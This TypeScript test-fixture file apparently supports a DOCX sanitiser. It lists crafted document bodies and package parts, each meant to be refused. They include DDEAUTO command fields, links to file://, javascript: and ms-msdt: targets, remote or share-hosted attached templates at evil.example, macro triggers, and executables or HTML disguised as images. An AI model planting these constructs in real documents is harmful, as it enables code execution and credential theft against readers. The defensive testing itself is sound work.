import type { Part } from '../worlds/test-files.ts';
import { METAFILES } from './metafiles.ts';

/** DOCX files that act or reach out in ways of their own, each to be refused. */

const SHARE = '\\\\evil.example\\share\\a';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';

const run = (inside: string) => `<w:r>${inside}</w:r>`;
const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const words = (instruction: string) => run(`<w:instrText xml:space="preserve">${instruction}</w:instrText>`);
/** A field whose instruction is these runs. */
const field = (runs: string) =>
  `<w:p>${mark('begin')}${runs}${mark('separate')}${run('<w:t>x</w:t>')}${mark('end')}</w:p>`;
const link = (switches: string) => field(words(` HYPERLINK ${switches.replaceAll('"', '&quot;')} `));

/** Bodies of a DOCX. */
export const ACTING_DOCX_BODIES: Readonly<Record<string, string>> = {
  'a link to a place that is a file': link('\\l "file:///x"'),
  'a link to a place that is a share': link(`\\l "${SHARE}"`),
  'a link to a place that is a share, by slashes': link('\\l "//evil.example/a"'),
  'a link to a place that is a script': link('\\l "javascript:alert(1)"'),
  'a link to a place that is a tool': link('\\l ms-msdt:/id'),
  'a link to the web whose place is a file': link('"https://ana.example" \\l "file:///x"'),
  'a link whose window is a file': link('"https://ana.example" \\t "file:///x"'),
  'a link whose window is a script': link('\\t "javascript:alert(1)" \\l "a"'),
  'a link whose coordinates are a file': link('"https://ana.example" \\m "file:///x"'),
  'a link whose new window is a file': link('\\n "file:///x"'),
  'a link whose switch is written large': link('\\L "file:///x"'),
  'a link whose tip is written large': link('\\O "file:///x"'),
  'a link of an unknown switch': link('\\s "file:///x"'),
  'a link behind a switch that is cut': link('\\l'.concat(' \\o "a" "file:///x"')),
  'a link behind two switches': link('\\o \\o "file:///x"'),
  'a link behind a tip with quotes in it': link('"https://ana.example" \\o "a \\"" "file:///x"'),
  'a link inside a tip, for who knows no quotes in quotes': link('\\l "a" \\o "a \\"file:///x\\" b"'),
  'a link between curly quotes': link('“file:///x”'),
  'a link without a space': field(words('HYPERLINK"file:///x"')),
  'a link to a program beside it': link('"setup.exe"'),
  'a link to a program in a folder beside it': link('"tools/setup.exe"'),
  'a link to a program above it': link('"../setup.exe" \\h'),
  'a link to a program that is an address': link('"www.ana.example.com"'),
  'a link to a program behind a format': link('\\* MERGEFORMAT setup.exe'),
  'a link to a program as a format': link('\\* setup.exe'),
  'a link to a program inside a tip, for who knows no quotes in quotes': link(
    '\\l "a" \\o "a \\"setup.exe\\" b"',
  ),
  'a shape that leads to a program beside it': '<w:p><v:shape href="setup.exe"/></w:p>',
  'a shape that leads to a program above it': '<w:p><v:rect href="../setup.exe"/></w:p>',
  'a picture that leads to a program beside it': '<w:p><v:image src="a.png" href="setup.exe"/></w:p>',
  'a link over three runs': field(words('HYPER') + words('LINK "fi') + words('le:///x"')),
  'a place over two runs': field(words('HYPERLINK \\l "fi') + words('le:///x"')),
  'a link that holds a tab in its scheme': link('"file\t:///x"'),
  'a link of a drawing that holds the end of a line': '<w:p><v:shape href="java&#10;script:alert(1)"/></w:p>',
  'a link of a drawing that holds a page': '<w:p><v:shape href="data:text/html,x"/></w:p>',
  'a picture that holds a page': '<w:p><v:imagedata src="data:text/html,x"/></w:p>',
  'a link in one piece to a file': '<w:fldSimple w:instr="HYPERLINK \\l &quot;file:///x&quot;"/>',
  'an anchor that is a file': '<w:p><w:hyperlink w:anchor="file:///x"/></w:p>',
  'an anchor that is a share': `<w:p><w:hyperlink w:anchor="${SHARE}"/></w:p>`,
  'a place in the document that is a file': '<w:p><w:hyperlink w:docLocation="file:///x"/></w:p>',
  'a window that is a script': '<w:p><w:hyperlink w:anchor="a" w:tgtFrame="javascript:x"/></w:p>',
  'an anchor under another prefix': '<w:p><w:hyperlink w:anchor="a" x:anchor="file:///x"/></w:p>',
  'a click that runs a program': '<a:hlinkClick action="ppaction://program?x=calc"/>',
  'a click that runs a macro': '<a:hlinkClick action="ppaction://macro?name=x"/>',
  'a click that is told to be invalid': '<a:hlinkHover invalidUrl="file:///x"/>',
  'a video that brings a page': '<wp15:webVideoPr embeddedHtml="&lt;iframe src=x&gt;" h="1" w="1"/>',
  'a form field that runs a macro': '<w:ffData><w:entryMacro w:val="x"/></w:ffData>',
  'a form field that runs a macro at its end': '<w:ffData><w:exitMacro w:val="x"/></w:ffData>',
  'a control': '<w:object><w:control w:name="x"/></w:object>',
  'an object that is linked': '<w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet"/></w:object>',
  'a piece of another format': '<w:altChunk r:id="r9"/>',
  'another document': '<w:subDoc r:id="r9"/>',
  'a field in the words of another': field(words('HYPERLINK ') + '<w:fldSimple w:instr="PAGE"/>'),
  'words of the document in the words of a field': field(words('DATE ') + run('<w:t>DDEAUTO</w:t>')),
  'a sign in the words of a field': field(words('DATE ') + run('<w:sym w:char="0044"/>')),
  'words for who reads one choice of two': field(
    `<mc:AlternateContent><mc:Choice>${words('DATE ')}</mc:Choice><mc:Fallback>${words('DDEAUTO cmd')}</mc:Fallback></mc:AlternateContent>`,
  ),
  'words before which others were deleted': field(
    `<w:del>${run('<w:delInstrText>DATE </w:delInstrText>')}</w:del><w:ins>${words('DDEAUTO cmd')}</w:ins>`,
  ),
  'deleted words that come back': field(
    `${words('DATE ')}<w:del>${run('<w:delInstrText>DDEAUTO cmd</w:delInstrText>')}</w:del>`,
  ),
  'a text box in the words of a field': field(
    `${words('DATE ')}<w:pict><w:txbxContent>${words('x')}</w:txbxContent></w:pict>${words('"')}`,
  ),
  'a button that runs a macro': field(words('MACROBUTTON x y')),
  'a button that runs a command': field(words('MACROBUTTON NoMacroFileOpen y')),
  'a question': field(words('FILLIN "password?"')),
  'a barcode of an address': field(words('DISPLAYBARCODE "https://evil.example" QR')),
  'a list of other documents': field(words('RD "https://evil.example/a.docx"')),
  'a print command': field(words('PRINT "x"')),
};

const relationships = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${type}" Target="${target}" ${mode}/></Relationships>`;
const types = (overrides: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${WORD}.document.main+xml"/>${overrides}</Types>`;
const DDE = `<w:document><w:body>${field(words('DDEAUTO cmd'))}</w:body></w:document>`;
const svg = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inside}</svg>`;

/** Parts that are added to a good DOCX, or take the place of one of its own. */
export const ACTING_DOCX_PARTS: Readonly<Record<string, Readonly<Record<string, Part | string>>>> = {
  'another main part, named as a picture': {
    '[Content_Types].xml': types(
      `<Override PartName="/word/a.png" ContentType="${WORD}.document.main+xml"/>`,
    ),
    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.png', ''),
    'word/a.png': DDE,
  },
  'another main part, named as relationships': {
    '[Content_Types].xml': types(
      `<Override PartName="/word/a.rels" ContentType="${WORD}.document.main+xml"/>`,
    ),
    '_rels/.rels': relationships(`${OFFICE}/officeDocument`, 'word/a.rels', ''),
    'word/a.rels': DDE,
  },
  'pictures that are documents by default': {
    '[Content_Types].xml': types(`<Default Extension="png" ContentType="${WORD}.document.main+xml"/>`),
    'word/a.png': `\n${DDE}`,
  },
  'macros by its type': {
    '[Content_Types].xml': types(
      '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ),
  },
  'a page named as a picture': { 'word/media/a.png': '<!doctype html><script>x</script>' },
  'a program named as a picture': { 'word/media/a.png': 'MZ\x90\0' },
  'a link to a program beside it': {
    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe'),
  },
  'a link to a program beside it, within the package': {
    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'setup.exe', ''),
  },
  'a link to a program in a folder beside it': {
    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, 'ana.example/setup.exe'),
  },
  'a link to a program above it': {
    'word/_rels/document.xml.rels': relationships(`${OFFICE}/hyperlink`, '..%5Csetup.exe'),
  },
  'a drawing of Windows': { 'word/media/image1.emf': METAFILES.emf },
  'an old drawing of Windows': { 'word/media/image1.wmf': METAFILES.placeableWmf },
  'a drawing of Windows named as a picture': { 'word/media/image1.png': METAFILES.emf },
  'a thumbnail that is a drawing of Windows': { 'docProps/thumbnail.emf': METAFILES.emf },
  'an archive named as a font': { 'word/fonts/a.ttf': 'PK\x03\x04' },
  'a base for its links': {
    'docProps/app.xml': '<Properties><HyperlinkBase>\\\\evil.example\\</HyperlinkBase></Properties>',
  },
  'a template on a share': {
    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///\\\\evil\\a.dotx'),
  },
  'a template on a share, by slashes': {
    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:////evil/a.dotx'),
  },
  'a template on a share, written in figures': {
    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///%5C%5Cevil/a.dotx'),
  },
  'a template from the web': {
    'word/_rels/settings.xml.rels': relationships(
      `${OFFICE}/attachedTemplate`,
      'https://evil.example/a.dotx',
    ),
  },
  'a template above its folder': {
    'word/_rels/settings.xml.rels': relationships(
      `${OFFICE}/attachedTemplate`,
      'file:///C:\\..\\UNC\\evil\\a.dotx',
    ),
  },
  'a template with macros': {
    'word/_rels/settings.xml.rels': relationships(`${OFFICE}/attachedTemplate`, 'file:///C:\\a.dotm'),
  },
  'a sheet of another format at its head': {
    'word/settings.xml':
      '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example"?><w:settings/>',
  },
  'a schema that brings a program': {
    'word/settings.xml':
      '<w:settings><sl:schemaLibrary><sl:schema sl:manifestLocation="https://evil.example"/></sl:schemaLibrary></w:settings>',
  },
  'a drawing with a page in it': { 'word/media/a.svg': svg('<foreignObject/>') },
  'a drawing that changes its links': { 'word/media/a.svg': svg('<set attributeName="href" to="x"/>') },
  'a drawing whose style fetches': { 'word/media/a.svg': svg('<style>@import "//evil.example/a"</style>') },
  'a drawing whose colour fetches': {
    'word/media/a.svg': svg('<rect style="fill:url(https://evil.example/a#b)"/>'),
  },
  'a drawing whose colour fetches, written in figures': {
    'word/media/a.svg': svg('<rect style="fill:u\\72l(https://evil.example/a#b)"/>'),
  },
  'a drawing with a base': { 'word/media/a.svg': svg('<g xml:base="https://evil.example"/>') },
  'a drawing that holds a drawing': {
    'word/media/a.svg': svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
  },
  'a drawing that uses another file': { 'word/media/a.svg': svg('<use href="a.svg#b"/>') },
};
